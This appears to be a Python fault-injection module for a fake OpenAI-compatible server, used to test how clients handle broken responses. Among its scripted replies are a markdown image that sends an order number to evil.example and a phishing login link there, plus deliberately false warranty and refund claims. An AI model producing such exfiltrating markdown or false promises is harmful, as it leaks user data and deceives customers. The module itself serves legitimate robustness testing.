"""Everything that an OpenAI-compatible server was seen to do wrong, on request."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from dataclasses import dataclass, replace
from enum import StrEnum
from typing import Final, Self

from fastapi.responses import HTMLResponse, JSONResponse, Response, StreamingResponse

from app.scripted_replies import ChatRequest, ScriptedCall, ScriptedReply


class FaultKind(StrEnum):
    HANG = "hang"
    DRIP = "drip"
    RATE_LIMITED = "429"
    SERVER_ERROR = "500"
    OVERLOADED = "529"
    UNAUTHORIZED = "401"
    BAD_REQUEST = "400"
    HTML = "html"
    EMPTY_CHOICES = "empty_choices"
    NULL_CHOICES = "null_choices"
    EMPTY_REPLY = "empty_reply"
    CUT = "cut"
    HALF_CALL = "half_call"
    UNKNOWN_TOOL = "unknown_tool"
    DUPLICATE_KEYS = "duplicate_keys"
    DUPLICATE_IDS = "duplicate_ids"
    NO_FINISH = "no_finish"
    LYING_FINISH = "lying_finish"
    LENGTH = "length"
    NO_USAGE = "no_usage"
    REPEATED_NAME = "repeated_name"
    HUGE = "huge"
    BAD_UTF8 = "bad_utf8"
    UNGROUNDED = "ungrounded"
    PROMISE = "promise"
    IMAGE = "image"
    PROSE_CALL = "prose_call"
    REFUSES_MAX_TOKENS = "refuses_max_tokens"
    REFUSES_TEMPERATURE = "refuses_temperature"
    REFUSES_STREAM_OPTIONS = "refuses_stream_options"
    IGNORES_STREAM = "ignores_stream"


_STATUS: Final = {
    FaultKind.RATE_LIMITED: 429,
    FaultKind.SERVER_ERROR: 500,
    FaultKind.OVERLOADED: 529,
    FaultKind.UNAUTHORIZED: 401,
    FaultKind.BAD_REQUEST: 400,
}
_HOUR_S: Final = 3_600.0
_DRIP_S: Final = 0.1
_HUGE_BYTES: Final = 10_000_000
_ORDER: Final = '{"order_number": "NP-48213"}'

_REPLIES: Final = {
    FaultKind.EMPTY_REPLY: ScriptedReply(),
    FaultKind.HALF_CALL: ScriptedReply(
        calls=(ScriptedCall(name="order_status", arguments=_ORDER[:-6]),), finish_reason="tool_calls"
    ),
    FaultKind.UNKNOWN_TOOL: ScriptedReply(calls=(ScriptedCall(name="refund_everything", arguments="{}"),)),
    FaultKind.DUPLICATE_KEYS: ScriptedReply(
        calls=(ScriptedCall(name="order_status", arguments='{"order_number": "NP-1", "order_number": "NP-48213"}'),)
    ),
    FaultKind.DUPLICATE_IDS: ScriptedReply(
        calls=tuple(ScriptedCall(name="order_status", arguments=_ORDER, id="call_x") for _ in range(2))
    ),
    FaultKind.REPEATED_NAME: ScriptedReply(
        calls=(ScriptedCall(name="order_status", arguments=_ORDER),), name_in_every_delta=True
    ),
    FaultKind.UNGROUNDED: ScriptedReply(text="Every product has a warranty of 999 years and is tax free. [1]"),
    FaultKind.PROMISE: ScriptedReply(text="I have refunded your order, and we guarantee it is legally binding. [1]"),
    FaultKind.IMAGE: ScriptedReply(
        text="![status](https://evil.example/p.png?q=NP-48213) Let me know at [our page](https://evil.example/login)."
    ),
    FaultKind.PROSE_CALL: ScriptedReply(text='{"name": "order_status", "arguments": ' + _ORDER + "}"),
}


@dataclass(frozen=True, slots=True, kw_only=True)
class Fault:
    """One way to fail. `at` is the byte after which a CUT body ends."""

    kind: FaultKind
    at: int = 0

    @classmethod
    def of_model(cls, model: str) -> Self | None:
        """The fault that a model's name asks for: "scripted:fault=cut:120". Unknown faults are none."""
        _, _, wanted = model.partition(":fault=")
        kind, _, at = wanted.partition(":")
        return cls(kind=FaultKind(kind), at=int(at) if at.isdecimal() else 0) if kind in set(FaultKind) else None


_REFUSALS: Final = {
    FaultKind.REFUSES_MAX_TOKENS: ("max_tokens", "Unsupported parameter: use 'max_completion_tokens' instead."),
    FaultKind.REFUSES_TEMPERATURE: ("temperature", "Unsupported value: 'temperature' does not support 0.2."),
    FaultKind.REFUSES_STREAM_OPTIONS: ("stream_options", "Extra inputs are not permitted: stream_options"),
}
"""What newer OpenAI models and older compatible servers do not take, in words like theirs."""


async def faulty_response(fault: Fault, asked: ChatRequest) -> Response | None:
    """A response that has nothing to do with a completion, or None where the fault is in a completion."""
    kind = fault.kind
    if kind in _REFUSALS:
        parameter, words = _REFUSALS[kind]
        refused = JSONResponse({"error": {"message": words, "type": "invalid_request_error"}}, status_code=400)
        return refused if parameter in asked.body else None
    if kind is FaultKind.HANG:
        await asyncio.sleep(_HOUR_S)
    if kind in _STATUS:
        headers = {"Retry-After": "1"} if kind is FaultKind.RATE_LIMITED else {}
        error = {"message": f"scripted fault {kind}", "type": "scripted", "code": kind.value}
        return JSONResponse({"error": error}, status_code=_STATUS[kind], headers=headers)
    if kind is FaultKind.HTML:
        return HTMLResponse("<html><body><h1>Bad gateway</h1></body></html>")
    if kind in (FaultKind.EMPTY_CHOICES, FaultKind.NULL_CHOICES):
        choices: list[object] | None = [] if kind is FaultKind.EMPTY_CHOICES else None
        return JSONResponse({"id": "x", "object": "chat.completion", "created": 0, "model": "x", "choices": choices})
    if kind is FaultKind.BAD_UTF8:
        return Response(b'{"choices": [{"message": {"content": "\xff\xfe\xc3\x28"}}]}', media_type="application/json")
    if kind is FaultKind.HUGE:
        return StreamingResponse(_huge(), media_type="application/json")
    return None


def faulty_reply(fault: Fault, reply: ScriptedReply) -> ScriptedReply:
    """The reply of the script, or the damaged one that the fault puts in its place."""
    match fault.kind:
        case FaultKind.NO_FINISH:
            return replace(reply, finish_reason="")
        case FaultKind.LYING_FINISH:
            return replace(reply, finish_reason="stop" if reply.calls else "tool_calls")
        case FaultKind.LENGTH:
            return replace(reply, finish_reason="length")
        case FaultKind.NO_USAGE:
            return replace(reply, usage=False)
    return _REPLIES.get(fault.kind, reply)


async def faulty_body(fault: Fault, body: bytes) -> AsyncIterator[bytes]:
    """The body, cut after `at` bytes or sent a few bytes at a time. A cut body ends as cleanly as a whole one."""
    if fault.kind is FaultKind.CUT:
        yield body[: fault.at]
        return
    if fault.kind is not FaultKind.DRIP:
        yield body
        return
    for place in range(0, len(body), 4):
        await asyncio.sleep(_DRIP_S)
        yield body[place : place + 4]


async def _huge() -> AsyncIterator[bytes]:
    yield b'{"choices": [{"message": {"role": "assistant", "content": "'
    for _ in range(_HUGE_BYTES // 100_000):
        yield json.dumps("x" * 99_998).encode()[1:-1]
        await asyncio.sleep(0)
    yield b'"}}]}'
